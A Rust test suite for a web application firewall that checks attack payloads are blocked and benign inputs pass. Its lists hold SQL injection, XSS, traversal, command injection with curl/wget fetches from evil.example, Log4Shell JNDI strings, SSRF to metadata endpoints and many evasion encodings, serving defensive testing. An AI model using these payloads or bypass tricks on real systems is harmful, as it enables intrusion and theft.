//! The filter as a whole, without a socket.

use std::time::{Duration, Instant};

use bytes::Bytes;
use edgeway_sdk::test::{self, Outcome, Trial};
use flate2::{Compression, write::GzEncoder};
use serde_json::json;

use super::*;

fn waf(json: &str) -> Waf {
    test::build(json, build).unwrap()
}

fn encoded(value: &str) -> String {
    value.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

async fn run(waf: &Waf, trial: Trial) -> Outcome {
    trial.run(waf).await
}

async fn query(waf: &Waf, value: &str) -> Option<Reply> {
    run(
        waf,
        Trial::get(&format!("/search?page=2&q={}", encoded(value))),
    )
    .await
    .reply
}

/// What becomes of a body.
async fn body(waf: &Waf, content_type: &str, body: impl AsRef<[u8]>) -> Result<Bytes> {
    coded(waf, content_type, "", body).await
}

async fn coded(
    waf: &Waf,
    content_type: &str,
    coding: &str,
    body: impl AsRef<[u8]>,
) -> Result<Bytes> {
    let body = body.as_ref();
    let mut trial =
        Trial::new(Method::POST, "/items").header("content-length", &body.len().max(1).to_string());
    if !content_type.is_empty() {
        trial = trial.header("content-type", content_type);
    }
    if !coding.is_empty() {
        trial = trial.header("content-encoding", coding);
    }
    let mut outcome = run(waf, trial).await;
    assert!(outcome.passed(), "{:?}", outcome.reply);
    let edit = &mut outcome.exchange.request_edits[0].edit;
    assert!(edit.keeps_length());
    edit.edit(Bytes::copy_from_slice(body), true)
}

const ATTACKS: [(&str, &[&str]); 13] = [
    (
        "sqli",
        &[
            "1' or '1'='1",
            "admin'--",
            "1 or 1=1",
            "' OR 1=1#",
            "1) union all select null,null--",
            "-1 UNION SELECT username, password FROM users",
            "1; drop table users",
            "1' and sleep(5)#",
            "1 and (select count(*) from information_schema.tables) > 0",
            "'; exec master..xp_cmdshell 'dir'--",
            "1' waitfor delay '0:0:5'--",
            "1 and extractvalue(1, concat(0x7e, version()))",
            "x' and ascii(substr((select password from users limit 1),1,1))>64 and 'a'='a",
            "1 order by 5--",
            "' into outfile '/var/www/x.php",
            "' || (select utl_http.request('http://evil') from dual) || '",
        ],
    ),
    (
        "xss",
        &[
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg/onload=confirm(1)>",
            "javascript:alert(document.cookie)",
            "' onfocus=alert(1) autofocus='",
            "<iframe srcdoc='<script>1</script>'>",
            "<a href=\"jav\tascript:alert(1)\">x</a>",
            "';alert(String.fromCharCode(88))//",
            "<details open ontoggle=prompt(1)>",
            "<math><a xlink:href=javascript:alert(1)>x",
            "<style>@import'//evil.example/x.css';</style>",
        ],
    ),
    (
        "traversal",
        &[
            "../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/etc/shadow",
            "php://filter/convert.base64-encode/resource=index",
            "file:///etc/passwd",
            "....//....//etc/hosts",
            "/proc/self/environ",
        ],
    ),
    (
        "rce",
        &[
            "; cat /etc/hosts",
            "| whoami",
            "$(curl http://evil.example/x)",
            "`id`",
            "a && ping -c 3 127.0.0.1",
            "() { :; }; /bin/bash",
            "1;wget http://evil.example/x.sh",
            "cmd.exe /c dir",
            "${IFS}cat",
        ],
    ),
    (
        "php",
        &[
            "<?php system('id'); ?>",
            "O:8:\"Evil_Obj\":1:{s:1:\"a\";i:1;}",
            "phpinfo()",
            "system($_GET['c'])",
        ],
    ),
    (
        "java",
        &[
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:rmi://x/y}",
            "#_memberAccess['allow']",
            "java.lang.Runtime.getRuntime().exec('id')",
        ],
    ),
    (
        "template",
        &[
            "{{7*7}}",
            "${7*7}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "<%= 7*7 %>",
            "#{7*7}",
        ],
    ),
    (
        "nosql",
        &["{\"$ne\": null}", "{$gt: ''}", "'; return true; var x='"],
    ),
    ("ldap", &["*)(uid=*))(|(uid=*", "admin)(&)", "(|(cn=*"]),
    (
        "xxe",
        &["<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hosts\">]><a>&x;</a>"],
    ),
    (
        "ssrf",
        &[
            "http://169.254.169.254/latest/meta-data/",
            "http://2130706433/",
            "http://metadata.google.internal/",
        ],
    ),
    ("prototype", &["__proto__", "constructor[prototype][x]"]),
    (
        "protocol",
        &["x\r\nSet-Cookie: a=b", "<!--#exec cmd=\"ls\"-->"],
    ),
];

const HARMLESS: [&str; 40] = [
    "O'Brien",
    "Seán O'Connor & Sons",
    "rock 'n' roll",
    "\"exact phrase\" -without",
    "select a plan from the list",
    "Drop table 5 chairs",
    "union station or hotel",
    "the boys' and girls' toys",
    "5' 10\" or 6' 2\"",
    "16\" or 18\" necklace",
    "a < b and c > d",
    "x = 5 && y < 10",
    "status = \"Open\" AND project = ABC ORDER BY created",
    "SELECT name FROM people WHERE age > 21 LIMIT 10",
    "1 = 1?",
    "2+2=4",
    "50% off!",
    "l'été à l'école, aujourd'hui",
    "<p>Hello <b>world</b>, <a href=\"https://example.com/?a=1&amp;b=2\">a link</a></p>",
    "if (a < b && c > d) { return a; }",
    "console.log('hello')",
    "JavaScript: the good parts",
    "how to use an onclick event",
    "cat food; dog food",
    "Tom & Jerry",
    "time flies; sleep well",
    "| id | name |\n|----|------|",
    "../images/logo.png",
    "see /etc/nginx/nginx.conf for details",
    "https://example.com/a?b=c&d=e#f",
    "http://localhost:3000/callback",
    "user+tag@example.co.uk",
    "550e8400-e29b-41d4-a716-446655440000",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
    "SGVsbG8gd29ybGQhIFRoaXMgaXM=",
    "Hello {{ user.name }}, your balance is ${amount}",
    "use `git rebase -i` and `ls`",
    "C:\\Program Files\\App\\readme.txt",
    "price[gte]",
    "f(x) = (x)(x-1)",
];

#[tokio::test]
async fn attacks_of_each_class_are_refused_wherever_they_stand() {
    let waf = waf("{}");
    for (class, attacks) in ATTACKS {
        for attack in attacks {
            let found = query(&waf, attack).await;
            assert_eq!(
                found.as_ref().map(Reply::status),
                Some(StatusCode::FORBIDDEN),
                "{class}: {attack}"
            );
            let form = format!("a=1&b={}", encoded(attack));
            assert!(
                body(&waf, "application/x-www-form-urlencoded", form)
                    .await
                    .is_err(),
                "form {attack}"
            );
            let json = json!({ "a": { "b": [1, attack] } }).to_string();
            assert!(
                body(&waf, "application/json", json).await.is_err(),
                "json {attack}"
            );
            let parts = format!(
                "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{attack}\r\n--x--\r\n"
            );
            let multipart = body(&waf, "multipart/form-data; boundary=x", parts).await;
            assert!(multipart.is_err(), "multipart {attack}");
            let cookie = format!("theme=dark; a={}", encoded(attack));
            let outcome = run(&waf, Trial::get("/").header("cookie", &cookie)).await;
            assert!(!outcome.passed(), "cookie {attack}");
        }
    }
}

#[tokio::test]
async fn harmless_values_pass_wherever_they_stand() {
    let waf = waf("{}");
    for value in HARMLESS {
        let found = query(&waf, value).await;
        assert!(found.is_none(), "{value}: {:?}", found.unwrap().reason());
        let form = format!("a=1&b={}", encoded(value));
        let passed = body(&waf, "application/x-www-form-urlencoded", &form).await;
        assert_eq!(passed.unwrap(), form, "{value}");
        let json = json!({ "a": { "b": [1, value] } }).to_string();
        assert_eq!(
            body(&waf, "application/json", &json).await.unwrap(),
            json,
            "{value}"
        );
        let parts = format!(
            "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{value}\r\n--x--\r\n"
        );
        assert!(
            body(&waf, "multipart/form-data; boundary=x", parts)
                .await
                .is_ok(),
            "{value}"
        );
        let outcome = run(
            &waf,
            Trial::get("/").header("cookie", &format!("a={}", encoded(value))),
        )
        .await;
        assert!(outcome.passed(), "cookie {value}: {:?}", outcome.reply);
    }
}

#[tokio::test]
async fn disguises_do_not_help() {
    let waf = waf("{}");
    for target in [
        // In capitals, with comments, escaped twice and three times, with null bytes, wide, overlong.
        "/?q=1'%20oR%20'1'%3D'1",
        "/?q=1%27/**/or/**/1%3D1",
        "/?q=1/*!50000union*//*!50000select*/1,2,3",
        "/?q=%2531%2527%2520or%25201%253D1",
        "/?q=1%252527%252520or%2525201%25253D1",
        "/?q=%00'%20or%201=1--",
        "/?q=%ef%bc%87%20or%201=1--",
        "/?q=%u0027%20or%201=1--",
        "/?q=1%27%0bor%0b1=1--",
        "/?q=1%27%a0or%a01=1--",
        "/?q=%3Cscr%00ipt%3Ealert(1)%3C/script%3E",
        "/?q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;",
        "/?q=\\u003cscript\\u003ealert(1)",
        "/?q=%c0%bcscript%c0%bealert(1)",
        "/?q=..%252f..%252f..%252fetc%252fpasswd",
        "/?q=..%c0%af..%c0%afetc/passwd",
        // In names, in pieces, in lists, behind a semicolon in the path, in the path.
        "/?1'%20or%201=1--=x",
        "/?q=1%20union/*&q=*/select%20password%20from%20users",
        "/?q[]=1&q[]=1'%20or%20'1'='1",
        "/a;x=1'%20or%20'1'='1/b",
        "/products/1%20or%201=1",
        "/products/%3Cscript%3Ealert(1)%3C/script%3E",
        "/files/..%2f..%2f..%2fetc%2fpasswd",
        "/.git/config",
        "/backup.sql",
    ] {
        let outcome = run(&waf, Trial::get(target)).await;
        assert!(!outcome.passed(), "{target}");
    }
}

#[tokio::test]
async fn disguises_of_bodies_do_not_help() {
    let waf = waf("{}");
    for (content_type, text) in disguised_bodies().into_iter().chain(disguised_parts()) {
        let found = body(&waf, content_type, &text).await;
        assert!(
            found.is_err(),
            "{content_type}: {}",
            text.get(..text.len().min(90)).unwrap()
        );
    }
}

fn disguised_bodies() -> Vec<(&'static str, String)> {
    let attack = "1' or '1'='1";
    let form = "application/x-www-form-urlencoded";
    vec![
        // Other types than it is, none, and character sets that hide it.
        ("", format!("q={attack}")),
        ("text/plain", format!("{{\"q\": \"{attack}\"}}")),
        ("application/x-unknown", format!("q={attack}")),
        ("application/json; charset=utf-7", "{}".to_owned()),
        (
            "application/x-www-form-urlencoded; charset=ibm037",
            "a=1".to_owned(),
        ),
        ("APPLICATION/JSON ;charset=\"UTF-16\"", "{}".to_owned()),
        // Escapes, keys, depth, faults.
        (
            "application/json",
            r#"{"q":"1\u0027 or \u00271\u0027=\u00271"}"#.to_owned(),
        ),
        ("application/json", format!("{{\"{attack}\": 1}}")),
        (
            "application/problem+json",
            format!("[[[[{{\"a\":\"{attack}\"}}]]]]"),
        ),
        ("application/json", format!("{{\"a\": 1, 'q': \"{attack}\"")),
        ("application/json", "[".repeat(10_000)),
        (
            "application/json",
            format!("{{\"q\":1}} {{\"q\":\"{attack}\"}}"),
        ),
        (form, format!("q=1&q={attack}")),
        (form, format!("a{}", "&a=1".repeat(2_000))),
        // XML.
        ("text/xml", format!("<a><b>{attack}</b></a>")),
        (
            "application/soap+xml",
            format!("<a b=\"{}\"/>", attack.replace('\'', "&#39;")),
        ),
        (
            "text/xml",
            "<a><![CDATA[<script>alert(1)</script>]]></a>".to_owned(),
        ),
        (
            "text/xml",
            "<a>1' <!-- x -->or<![CDATA[ '1'=]]>'1</a>".to_owned(),
        ),
        (
            "text/xml",
            "<?xml version=\"1.0\" encoding='utf-7'?><a/>".to_owned(),
        ),
        ("text/xml", "<\0a\0/\0>\0".to_owned()),
        (
            "text/xml",
            "<!DOCTYPE a [<!ENTITY x SYSTEM 'http://evil/'>]><a>&x;</a>".to_owned(),
        ),
    ]
}

fn disguised_parts() -> Vec<(&'static str, String)> {
    let attack = "1' or '1'='1";
    let parts = |disposition: &str, value: &str| {
        format!("--x\r\nContent-Disposition: {disposition}\r\n\r\n{value}\r\n--x--\r\n")
    };
    vec![
        // Parts that are read in two ways, and what stands outside of them.
        ("multipart/form-data", parts("form-data; name=a", attack)),
        (
            "multipart/form-data; boundary=x; boundary=y",
            parts("form-data; name=a", "1"),
        ),
        (
            "multipart/form-data; boundary=\"x\"",
            parts("form-data; name=a", attack),
        ),
        (
            "multipart/form-data; boundary=x",
            parts("form-data; name=a; name=b", "1"),
        ),
        (
            "multipart/form-data; boundary=x",
            parts(&format!("form-data; name=\"{attack}\""), "1"),
        ),
        (
            "multipart/form-data; boundary=x",
            format!("{attack}\r\n{}", parts("form-data; name=a", "1")),
        ),
        (
            "multipart/form-data; boundary=x",
            parts("form-data; name=a; filename=\"../../etc/passwd\"", "1"),
        ),
        (
            "multipart/form-data; boundary=x",
            parts("form-data; name=a; filename=\"shell.php\"", "1"),
        ),
        (
            "multipart/form-data; boundary=x",
            parts("form-data; name=a; filename=a.txt", "${jndi:ldap://x/y}"),
        ),
        (
            "multipart/form-data; boundary=x",
            parts("form-data; name=_charset_", "utf-7"),
        ),
        (
            "multipart/form-data; boundary=x",
            parts("form-data; name=a; filename=\"\"", attack),
        ),
        (
            "multipart/form-data; boundary=x",
            parts("form-data; name=a; filename*=UTF-8''a.png", attack),
        ),
        (
            "multipart/form-data; boundary=x",
            parts("form-data; name=a; filename=b", "v\r\n--xy\r\nv"),
        ),
        (
            "multipart/form-data; boundary=x",
            parts("form-data; name=a", attack).replace("\r\n", "\n"),
        ),
    ]
}

fn gzip(text: &[u8]) -> Vec<u8> {
    let mut packer = GzEncoder::new(Vec::new(), Compression::best());
    std::io::Write::write_all(&mut packer, text).unwrap();
    packer.finish().unwrap()
}

/// With bytes in its head that are no part of what is unpacked.
fn gzip_with_extra(text: &[u8], extra: &[u8]) -> Vec<u8> {
    let packer = flate2::GzBuilder::new().extra(extra);
    let mut packer = packer.write(Vec::new(), Compression::best());
    std::io::Write::write_all(&mut packer, text).unwrap();
    packer.finish().unwrap()
}

#[tokio::test]
async fn the_packed_bytes_are_looked_at_too() {
    let waf = waf("{}");
    let form = "application/x-www-form-urlencoded";
    let parts = "multipart/form-data; boundary=x";
    let part = "--x\r\nContent-Disposition: form-data; name=a\r\n\r\n";
    let good = format!("{part}v\r\n--x--");
    let bad = format!("\r\n{part}1' or '1'='1\r\n--x--\r\n");
    for (content_type, text, extra) in [
        (form, "q=1", "&q='or 1=1--&"),
        (form, "q=1", "\u{1}q=1' or '1'='1 --\u{1}"),
        (parts, &*good, &*bad),
        ("text/plain", "q=1", "\u{1}<script>alert(1)</script>\u{1}"),
    ] {
        let packed = gzip_with_extra(text.as_bytes(), extra.as_bytes());
        let found = coded(&waf, content_type, "gzip", packed).await;
        assert!(found.is_err(), "{content_type} {extra}");
        let packed = gzip_with_extra(text.as_bytes(), b"\x01");
        assert_eq!(
            coded(&waf, content_type, "gzip", &packed).await.unwrap(),
            packed
        );
    }
    // What chance makes of many bytes is no attack.
    let numbers = (0..30_000_u32).map(|number| number.wrapping_mul(2_654_435_761).to_string());
    let packed = gzip(numbers.collect::<Vec<_>>().join("=").as_bytes());
    assert!(coded(&waf, form, "gzip", packed).await.is_ok());
}

#[tokio::test]
async fn what_is_unpacked_may_be_no_longer_than_what_is_looked_at() {
    let refuse = waf(r#"{ "body": "1KiB", "longer": "refuse" }"#);
    let form = "application/x-www-form-urlencoded";
    let error = coded(&refuse, form, "gzip", gzip(&b"a".repeat(1_025)))
        .await
        .unwrap_err();
    assert_eq!(error.code(), StatusCode::PAYLOAD_TOO_LARGE);
    assert!(
        coded(&refuse, form, "gzip", gzip(&b"a".repeat(1_024)))
            .await
            .is_ok()
    );
}

#[tokio::test]
async fn faults_before_the_cut_count() {
    let waf = waf(r#"{ "body": "1KiB" }"#);
    let padding = "a".repeat(2_000);
    for (content_type, text) in [
        (
            "application/json",
            format!("{{x: \"1' or '1'='1\", y: \"{padding}\"}}"),
        ),
        (
            "multipart/form-data; boundary=x",
            format!(
                "--x\r\nContent-Disposition: form-data\r\n\r\n<img src=x onerror=alert(1)>\r\n--x\r\n\r\n{padding}"
            ),
        ),
    ] {
        let error = body(&waf, content_type, text).await.unwrap_err();
        assert!(
            error.reason().contains("protocol-malformed-body"),
            "{}",
            error.reason()
        );
    }
    let cut = format!("{{\"x\": [1, \"it's {padding}\"]}}");
    assert!(body(&waf, "application/json", cut).await.is_ok());
}

#[tokio::test]
async fn a_body_is_read_as_what_it_is_whatever_it_is_called() {
    let waf = waf("{}");
    let attack = r#" {"q": "1' or '1'\u003d'1"}"#;
    for content_type in [
        "application/octet-stream",
        "image/png",
        "application/x-www-form-urlencoded",
    ] {
        assert!(
            body(&waf, content_type, attack).await.is_err(),
            "{content_type}"
        );
    }
    let text = "q=1' or '1'='1";
    assert!(body(&waf, "application/octet-stream", text).await.is_err());
    let file = [b"\x89PNG\r\n\x1a\n\0 ", text.as_bytes()].concat();
    assert!(body(&waf, "image/png", file).await.is_ok());
}

#[tokio::test]
async fn a_boundary_that_some_read_differently_is_refused() {
    let waf = waf("{}");
    let parts = |boundary: &str| {
        format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n--{boundary}--\r\n"
        )
    };
    for (parameters, boundary) in [
        ("boundary=x; Boundary*=y", "x"),
        ("a=\"; boundary=y\"; boundary=x", "x"),
        ("boundary =x; boundary=x", "x"),
        ("boundary=x=y", "x=y"),
        ("boundary=\"x", "x"),
        ("boundary=x y", "x y"),
        ("boundary=x,boundary=y", "x"),
    ] {
        let content_type = format!("multipart/form-data; {parameters}");
        let error = body(&waf, &content_type, parts(boundary)).await;
        let error = error.expect_err(parameters);
        assert!(
            error.reason().contains("protocol-multipart"),
            "{}",
            error.reason()
        );
    }
    for (parameters, boundary) in [
        (
            "boundary=----WebKitFormBoundaryx'Y",
            "----WebKitFormBoundaryx'Y",
        ),
        ("boundary=\"=_x y:1/2\"; charset=utf-8", "=_x y:1/2"),
    ] {
        let content_type = format!("multipart/form-data; {parameters}");
        let passed = body(&waf, &content_type, parts(boundary)).await;
        assert!(
            passed.is_ok(),
            "{parameters}: {}",
            passed.unwrap_err().reason()
        );
    }
}

#[tokio::test]
async fn an_exception_leaves_the_rest_of_the_rules() {
    let json = r#"{ "exceptions": [{ "class": "sqli", "parameter": "q" }] }"#;
    let many = "1' union select 1,2 from information_schema.tables where 1=1 or ascii(substr(user(),1,1))>1 \
        and extractvalue(1,2) and sleep(5) and (select count(*) from x) and @@version=1 and benchmark(1,2) \
        order by 1-- ; drop table x; exec xp_cmdshell('x') declare @x int into outfile '/x' \
        if(1=1,1,2) 1) or (1=1) <script>alert(1)</script>";
    let found = query(&waf(json), many).await;
    assert!(found.unwrap().reason().unwrap().contains("xss-script"));
    assert!(query(&waf(json), "1' or '1'='1").await.is_none());
}

#[tokio::test]
async fn what_is_undone_is_looked_at_as_it_was_written_too() {
    let waf = waf("{}");
    for value in [
        "x' || '%27'='%27",
        "1' or '\\x27'='\\x27",
        "x '90s' or 1=1 --",
        "the '90s ' or 1=1 --",
    ] {
        assert!(query(&waf, value).await.is_some(), "{value}");
    }
    let cookie = Trial::get("/").header("cookie", r#"a="1\047 \157r \0471\047=\0471""#);
    assert!(!run(&waf, cookie).await.passed());
    let header = Trial::get("/").header("content-type", "%{(#a=#b).(#_memberAccess['allow'])}");
    assert!(!run(&waf, header).await.passed());
}

#[tokio::test]
async fn documents_that_belong_together_pass() {
    let waf = waf("{}");
    let text = "--x\r\nContent-Type: application/json\r\n\r\n{\"name\": \"it's\"}\r\n\
        --x\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n--x--\r\n";
    for kind in ["related", "mixed"] {
        let content_type = format!("multipart/{kind}; boundary=x");
        let passed = body(&waf, &content_type, text).await;
        assert!(passed.is_ok(), "{}", passed.unwrap_err().reason());
        let attack = text.replace("it's", "1' or '1'='1");
        assert!(body(&waf, &content_type, attack).await.is_err());
    }
}

#[tokio::test]
async fn a_packed_body_is_looked_at_and_passes_as_it_came() {
    let waf = waf(r#"{ "body": "10KiB" }"#);
    let form = "application/x-www-form-urlencoded";
    let good = gzip(b"q=hello");
    assert_eq!(coded(&waf, form, "gzip", &good).await.unwrap(), good);
    assert!(
        coded(&waf, form, "gzip", gzip(b"q=1' or '1'='1"))
            .await
            .is_err()
    );
    let bomb = gzip(&[b"q=".to_vec(), vec![b'a'; 30_000_000]].concat());
    assert!(bomb.len() < 40_000);
    assert!(
        coded(&waf, form, "gzip", &bomb).await.is_ok(),
        "its beginning is harmless"
    );
    for (coding, text) in [
        ("gzip", b"q=1".to_vec()),
        ("gzip, gzip", gzip(&good)),
        ("rot13", b"q=1".to_vec()),
    ] {
        let refused = coded(&waf, form, coding, text).await.unwrap_err();
        assert!(
            refused.reason().contains("protocol-compressed-body"),
            "{coding}: {}",
            refused.reason()
        );
    }
}

#[tokio::test]
async fn longer_bodies_pass_or_are_refused() {
    let attack = "1' or '1'='1";
    let form = "application/x-www-form-urlencoded";
    let padding = "a".repeat(2_000);
    let pass = waf(r#"{ "body": "1KiB" }"#);
    assert!(
        body(&pass, form, format!("q={attack}&a={padding}"))
            .await
            .is_err()
    );
    let late = format!("a={padding}&q={attack}");
    assert_eq!(body(&pass, form, &late).await.unwrap(), late);
    let cut = format!("{{\"q\": \"{attack} {padding}\"}}");
    assert!(
        body(&pass, "application/json", cut).await.is_err(),
        "a text that was cut is looked at"
    );
    let refuse = waf(r#"{ "body": "1KiB", "longer": "refuse" }"#);
    let error = body(&refuse, form, &late).await.unwrap_err();
    assert_eq!(error.code(), StatusCode::PAYLOAD_TOO_LARGE);
    assert!(body(&refuse, form, "a=1").await.is_ok());
    let all = waf("{}");
    assert!(body(&all, form, late).await.is_err());
}

#[tokio::test]
async fn a_body_in_pieces_is_held_until_it_was_looked_at() {
    let waf = waf(r#"{ "body": "100B" }"#);
    let trial = || Trial::new(Method::POST, "/").header("transfer-encoding", "chunked");
    let mut outcome = run(&waf, trial()).await;
    let edit = &mut outcome.exchange.request_edits[0].edit;
    assert_eq!(edit.edit("a=1&".into(), false).unwrap(), "");
    assert_eq!(edit.edit("b=2".into(), false).unwrap(), "");
    assert_eq!(edit.edit("".into(), true).unwrap(), "a=1&b=2");
    let mut outcome = run(&waf, trial()).await;
    let edit = &mut outcome.exchange.request_edits[0].edit;
    assert_eq!(edit.edit("a=1' or ".into(), false).unwrap(), "");
    assert!(edit.edit("'1'='1".into(), true).is_err());
    assert_eq!(edit.held(), "a=1' or '1'='1", "for who only reports");
    let mut outcome = run(&waf, trial()).await;
    let edit = &mut outcome.exchange.request_edits[0].edit;
    let long = Bytes::from("a".repeat(101));
    assert_eq!(edit.edit(long.clone(), false).unwrap(), long);
    assert_eq!(
        edit.edit("' or 1=1--".into(), true).unwrap(),
        "' or 1=1--",
        "behind what is looked at"
    );
}

#[tokio::test]
async fn a_request_without_a_body_and_a_body_that_is_not_looked_at_are_not_edited() {
    let default = waf("{}");
    assert!(
        run(&default, Trial::get("/"))
            .await
            .exchange
            .request_edits
            .is_empty()
    );
    let empty = Trial::new(Method::POST, "/").header("content-length", "0");
    assert!(run(&default, empty).await.exchange.request_edits.is_empty());
    let none = waf(r#"{ "body": "0B" }"#);
    let post = Trial::new(Method::POST, "/").header("content-length", "10");
    assert!(run(&none, post).await.exchange.request_edits.is_empty());
}

#[tokio::test]
async fn a_refusal_tells_the_operator_why_and_the_client_nothing() {
    let waf = waf("{}");
    let reply = query(&waf, "1' union select `x` from users\n--")
        .await
        .unwrap();
    let reason = reply.reason().unwrap();
    assert!(reason.contains("in query q:"), "{reason}");
    assert!(reason.contains("sqli-union(5)"), "{reason}");
    assert!(reason.contains("score "), "{reason}");
    assert!(!reason.contains('\n'), "{reason}");
    assert_eq!(reply.about(), Some("query q"));
    assert!(reply.decided_by_rule().unwrap().starts_with("sqli-"));
    assert!(reply.headers().is_empty() || !format!("{:?}", reply.headers()).contains("sqli"));
}

#[tokio::test]
async fn the_threshold_decides_what_is_refused() {
    let odd = "$_GET";
    assert!(query(&waf("{}"), odd).await.is_none());
    assert!(query(&waf(r#"{ "threshold": 3 }"#), odd).await.is_some());
    let certain = "phpinfo()";
    assert!(
        query(&waf(r#"{ "threshold": 5 }"#), certain)
            .await
            .is_some()
    );
    assert!(
        query(&waf(r#"{ "threshold": 6 }"#), certain)
            .await
            .is_none()
    );
}

#[tokio::test]
async fn scores_of_several_values_are_not_added_up() {
    let many = format!("/?{}", "a=$_GET&".repeat(20));
    assert!(run(&waf("{}"), Trial::get(&many)).await.passed());
}

#[tokio::test]
async fn a_rule_that_is_disabled_does_not_count() {
    let attack = "phpinfo()";
    assert!(
        query(&waf(r#"{ "disable": ["php-function"] }"#), attack)
            .await
            .is_none()
    );
    assert!(
        query(&waf(r#"{ "disable": ["php-tag"] }"#), attack)
            .await
            .is_some()
    );
}

#[tokio::test]
async fn an_exception_is_for_its_place_alone() {
    let attack = encoded("<script>alert(1)</script>");
    let get = |target: String| Trial::get(&target);
    let passed =
        |json: &'static str, trial: Trial| async move { run(&waf(json), trial).await.passed() };
    let page = format!("/editor/1?html={attack}");
    let json = r#"{ "exceptions": [{ "class": "xss", "path": "/editor/", "parameter": "html" }] }"#;
    assert!(passed(json, get(page.clone())).await);
    assert!(!passed(json, get(format!("/editor/1?title={attack}"))).await);
    assert!(!passed(json, get(format!("/other?html={attack}"))).await);
    assert!(
        !passed(
            json,
            get(format!("/editor/1?html={}", encoded("1' or '1'='1")))
        )
        .await
    );
    assert!(
        passed(
            r#"{ "exceptions": [{ "path": "/editor/" }] }"#,
            get(page.clone())
        )
        .await
    );
    assert!(
        passed(
            r#"{ "exceptions": [{ "rule": "xss-*", "parameter": "ht*" }] }"#,
            get(page)
        )
        .await
    );
}

#[tokio::test]
async fn an_exception_is_for_its_header_or_cookie_alone() {
    let attack = encoded("<script>alert(1)</script>");
    let passed =
        |json: &'static str, trial: Trial| async move { run(&waf(json), trial).await.passed() };
    let json = r#"{ "exceptions": [{ "class": "xss", "parameter": "x-note" }] }"#;
    let header = Trial::get("/").header("x-note", "<script>alert(1)</script>");
    assert!(!passed(json, header).await);
    let json = r#"{ "exceptions": [{ "class": ["xss"], "header": "X-Note" }] }"#;
    assert!(
        passed(
            json,
            Trial::get("/").header("x-note", "<script>alert(1)</script>")
        )
        .await
    );
    assert!(
        !passed(
            json,
            Trial::get("/").header("x-other", "<script>alert(1)</script>")
        )
        .await
    );
    let json = r#"{ "exceptions": [{ "cookie": "prefs" }] }"#;
    assert!(
        passed(
            json,
            Trial::get("/").header("cookie", &format!("prefs={attack}"))
        )
        .await
    );
    assert!(
        !passed(
            json,
            Trial::get("/").header("cookie", &format!("other={attack}"))
        )
        .await
    );
}

#[tokio::test]
async fn an_exception_knows_the_keys_of_json() {
    let json = waf(r#"{ "exceptions": [{ "class": "xss", "parameter": "post.body" }] }"#);
    let text = r#"{"post":{"body":"<script>alert(1)</script>"}}"#;
    assert!(body(&json, "application/json", text).await.is_ok());
    assert!(
        body(&json, "application/json", text.replace("post", "other"))
            .await
            .is_err()
    );
}

#[test]
fn mistakes_are_refused_where_they_stand() {
    let error = |json: &str| test::build(json, build).map(|_| ()).unwrap_err();
    assert_eq!(
        error(r#"{ "disable": ["php-tag", "sqli-onion"] }"#).to_string(),
        "there is no rule `sqli-onion`"
    );
    for json in [
        r#"{ "threshold": 0 }"#,
        r#"{ "threshold": 101 }"#,
        r#"{ "body": "1GiB" }"#,
        r#"{ "body": "0B", "longer": "refuse" }"#,
        r#"{ "longer": "maybe" }"#,
        r#"{ "exceptions": [{ "class": "sql", "path": "/x" }] }"#,
        r#"{ "exceptions": [{ "rule": "xss-none", "path": "/x" }] }"#,
        r#"{ "exceptions": [{ "class": "xss" }] }"#,
        r#"{ "exceptions": [{ "parameter": [] }] }"#,
        r#"{ "exceptions": [{ "parameter": "*" }] }"#,
    ] {
        assert!(test::build(json, build).is_err(), "{json}");
    }
}

#[tokio::test]
async fn headers_are_looked_at_and_those_of_browsers_pass() {
    let waf = waf("{}");
    for (name, value) in [
        ("user-agent", "sqlmap/1.7"),
        ("user-agent", "Mozilla/5.0 Nikto/2.1"),
        ("user-agent", "() { :;}; /bin/bash -c id"),
        ("user-agent", "${jndi:ldap://x/a}"),
        ("referer", "https://x.example/?q=<script>alert(1)</script>"),
        ("x-forwarded-host", "' or 1=1--"),
        ("accept-language", "${jndi:ldap://x/a}"),
        ("authorization", "${jndi:ldap://x/a}"),
        ("x-api-version", "1' or '1'='1"),
        ("cookie", "id=1' or '1'='1"),
    ] {
        let outcome = run(&waf, Trial::get("/").header(name, value)).await;
        assert!(!outcome.passed(), "{name}: {value}");
    }
    let browser = Trial::get("/a/b?utm_source=news&id=7&q=shoes+%26+boots")
        .header("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36")
        .header("accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8")
        .header("sec-ch-ua", "\"Chromium\";v=\"130\", \"Not?A_Brand\";v=\"99\"")
        .header("if-none-match", "W/\"5f3a-18c\"")
        .header("referer", "https://www.google.com/search?q=how+to+select+rows&oq=a")
        .header("cookie", "_ga=GA1.2.1.2; session=aGVsbG8+d29ybGQ=; consent=%7B%22a%22%3Atrue%7D");
    let outcome = run(&waf, browser).await;
    assert!(outcome.passed(), "{:?}", outcome.reply);
}

/// A generator of numbers that are the same each time.
struct Random(u64);

impl Random {
    fn next(&mut self) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0 as usize
    }
}

#[tokio::test]
async fn no_input_makes_it_panic() {
    const PIECES: [&str; 32] = [
        "'",
        "\"",
        "`",
        "<",
        ">",
        "/*",
        "*/",
        "--",
        "#",
        "\\",
        "%27",
        "%u0027",
        "&#x27;",
        "\u{ff07}",
        "or 1=1",
        "union select",
        "<script",
        " on",
        "x=",
        "{\"a\":",
        "]",
        "--x\r\n",
        "Content-Disposition: form-data; name=",
        "\0",
        ";",
        "$(",
        "é",
        "../",
        "1",
        " ",
        "@",
        "(",
    ];
    let waf = waf("{}");
